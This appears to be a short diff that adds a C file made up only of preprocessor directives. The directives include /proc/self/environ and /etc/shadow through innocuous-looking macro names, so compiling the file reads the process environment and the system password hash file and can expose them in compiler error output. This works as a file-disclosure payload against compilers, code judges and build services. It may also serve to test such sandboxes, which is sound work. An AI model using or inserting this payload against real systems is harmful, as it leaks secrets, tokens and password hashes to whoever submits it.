@@ -1,0 +1,4 @@
+#define FROM "/proc/self/environ"
+#include FROM
+#define AND "/etc/shadow"
+#include AND
